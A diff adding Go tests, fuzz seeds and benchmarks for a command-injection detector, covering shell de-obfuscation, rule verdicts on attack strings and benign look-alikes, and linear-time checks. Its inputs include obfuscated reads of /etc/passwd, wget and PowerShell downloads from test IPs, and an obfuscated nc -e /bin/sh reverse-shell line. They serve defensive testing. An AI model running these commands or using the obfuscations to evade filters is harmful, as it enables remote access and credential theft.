@@ -1,0 +1,160 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestShellView checks the grammar's de-obfuscated view of command lines:
+// quotes, escapes and expansions resolved the way the shell resolves them.
+func TestShellView(t *testing.T) {
+	cases := []struct{ name, in, want string }{
+		{"split quotes", `c'a't /e"t"c/hosts`, "cat /etc/hosts"},
+		{"backslashes", `w\h\o\a\m\i`, "whoami"},
+		{"carets", `n^e^t u^s^e^r`, "net user"},
+		{"empty expansions", `un$@ame -$()a`, "uname -a"},
+		{"ifs", `cat${IFS}/etc/hosts;ls$IFS-l`, "cat /etc/hosts;ls -l"},
+		{"path substring", `${PATH:0:1}etc${HOME:0:1}hosts`, "/etc/hosts"},
+		{"default value", `${u:-c}at x`, "cat x"},
+		{"ansi-c octal", `$'\165\156\141\155\145' -a`, "uname -a"},
+		{"ansi-c hex", `$'\x69\x64'`, "id"},
+		{"assigned variables", `a=una;b=me;${a}${b} -a`, "a=una;b=me;uname -a"},
+		{"cmd set", `set x=ver&&call %x%`, "set x=ver&&call ver"},
+		{"comspec", `%COMSPEC% /c ver`, "cmd.exe /c ver"},
+		{"comspec substring", `%ComSpec:~-7,1%md /c ver`, "cmd /c ver"},
+		{"class", `/bin/[u]name`, "/bin/uname"},
+		{"brace expansion", `{uname,-a}`, "uname -a"},
+		{"cmd commas", `cmd,/c,ver`, "cmd /c ver"},
+		{"substitution", `echo $(uname -a)`, "echo $(uname -a)"},
+		{"comment", `ls # the rest`, "ls "},
+		{"code span kept as text", "I ran `ls -la` today", "i ran ls -la today"},
+		{"prose", "Tom & Jerry; the sequel", "tom & jerry; the sequel"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			in := []byte(Normalize(c.in))
+			_, view := shellScan(make([]byte, 0, len(in)), in)
+			if string(view) != c.want {
+				t.Errorf("view of %q = %q, want %q", c.in, view, c.want)
+			}
+		})
+	}
+}
+
+// TestShellJudge checks the grammar's verdicts on its own examples and on
+// benign look-alikes.
+func TestShellJudge(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"x;hostnamectl --static", "cmdi.separator"},
+		{"x|du -sh /", "cmdi.separator"},
+		{"$(uname -r)", "cmdi.substitution"},
+		{"<(wget -qO- http://198.51.100.2/x)", "cmdi.substitution"},
+		{"$(tac<<<'x')", "cmdi.substitution"},
+		{"x; env uname", "cmdi.separator"},
+		{"u'n'a'm'e", "cmdi.obfuscated"},
+		{"/???/u?am?", "cmdi.glob"},
+		{"x; ./run.sh", "cmdi.binary_path"},
+		{"x | C:\\Tools\\nc64.exe -h", "cmdi.binary_path"},
+		{"y & hh.exe", "cmdi.separator"},
+		{"for /l %i in (1,1,3) do ver", "cmdi.windows"},
+		{"x; python3 ./exploit.py", "cmdi.interpreter"},
+		{"$0 -c 'uname'", "cmdi.interpreter"},
+		{"iwr https://198.51.100.7/a -OutFile a.exe", "cmdi.powershell"},
+		// benign look-alikes
+		{"Mon-Fri 9am-5pm; Sat 10-2", ""},
+		{"It fails; check /var/log/app.log please", ""},
+		{"Re: bug -- I tried `docker ps -a shows the container as exited`", ""},
+		{"/opt/app/config", ""},
+		{"../../docs/readme", ""},
+		{"see (optional -v flag)", ""},
+		{"$(document).ready(init)", ""},
+		{"Price: $19.99; tax $1.50", ""},
+		{"a=1; b=2; c=3", ""},
+		{"apples;oranges;pears", ""},
+		{"The file is in C:\\Users\\Ana\\cv.docx", ""},
+		{"For (each) 50% slice", ""},
+	}
+	for _, c := range cases {
+		t.Run(c.in, func(t *testing.T) {
+			in := []byte(Normalize(c.in))
+			h, _ := shellScan(make([]byte, 0, len(in)), in)
+			if h.rule != c.want {
+				t.Errorf("shellScan(%q) = %q (%q), want %q", c.in, h.rule, h.frag, c.want)
+			}
+		})
+	}
+}
+
+// TestShellLinear checks that the grammar stays linear on inputs built to
+// make it rescan: runs of openers that never close.
+func TestShellLinear(t *testing.T) {
+	for _, unit := range []string{"$(", "'", "${", "\"", "`", "{", "[", "%a", "$'", "\\", "^a", "{a,", "a=b;$a", "((", "<(", "x;", "/???/"} {
+		small := strings.Repeat(unit, (64<<10)/len(unit))
+		big := strings.Repeat(unit, (1<<20)/len(unit))
+		cost := func(s string) time.Duration {
+			b := []byte(s)
+			buf := make([]byte, 0, len(b))
+			best := time.Duration(1 << 62)
+			for r := 0; r < 3; r++ {
+				t0 := time.Now()
+				shellScan(buf, b)
+				if d := time.Since(t0); d < best {
+					best = d
+				}
+			}
+			return best
+		}
+		cs, cb := cost(small), cost(big)
+		// 16x the input: allow 64x the time (noise on a shared machine)
+		// before calling it super-linear
+		if cb > 64*cs+20*time.Millisecond {
+			t.Errorf("%q: 64 KB %v, 1 MB %v: not linear", unit, cs, cb)
+		}
+	}
+}
+
+// FuzzShellLex checks the lexer and judge on arbitrary input: no panic,
+// a view never longer than the input, and tokens inside the view.
+func FuzzShellLex(f *testing.F) {
+	fuzzSeeds(f)
+	for _, s := range []string{"c'a't /etc/passwd", "${PATH:0:1}", "$'\\x41\\101'", "%comspec:~-7,1%", "{a,b}", "a=b;$a",
+		"for /f %i in ('x') do y", "`a`b`c", "$((1+2))", "x<(y)", "w^h^o", "/bin/[c]at", "${x:-y}", "set a=b&&%a%"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		in := []byte(Normalize(s))
+		dst := make([]byte, 0, len(in))
+		h, view := shellScan(dst, in)
+		if len(view) > len(in) {
+			t.Fatalf("view longer than input: %q -> %q", in, view)
+		}
+		if cap(view) > 0 && cap(dst) > 0 && &view[:1][0] != &dst[:1][0] {
+			t.Fatalf("view reallocated for %q", in)
+		}
+		if h.rule != "" && !IsRule(h.rule) {
+			t.Fatalf("undeclared rule %q", h.rule)
+		}
+	})
+}
+
+func BenchmarkShellScan(b *testing.B) {
+	inputs := []struct{ name, s string }{
+		{"clean_1KB", strings.Repeat("Hi! I'm O'Brien; order #123 (2 items) costs $19.99 - see https://example.com/a?b=c&d=e. ", 12)[:1024]},
+		{"attack", "x;c'a't${IFS}/e't'c/pa's'swd|$'\\x6e\\x63' -e /bin/sh 198.51.100.1 4444"},
+	}
+	for _, p := range [...]string{"$(", "'", "${", "`", "{a,", "%a"} {
+		inputs = append(inputs, struct{ name, s string }{"worst_" + p + "_1MB", strings.Repeat(p, (1<<20)/len(p))})
+	}
+	for _, in := range inputs {
+		b.Run(in.name, func(b *testing.B) {
+			src := []byte(in.s)
+			buf := make([]byte, 0, len(src))
+			b.SetBytes(int64(len(src)))
+			b.ReportAllocs()
+			for b.Loop() {
+				shellScan(buf, src)
+			}
+		})
+	}
+}
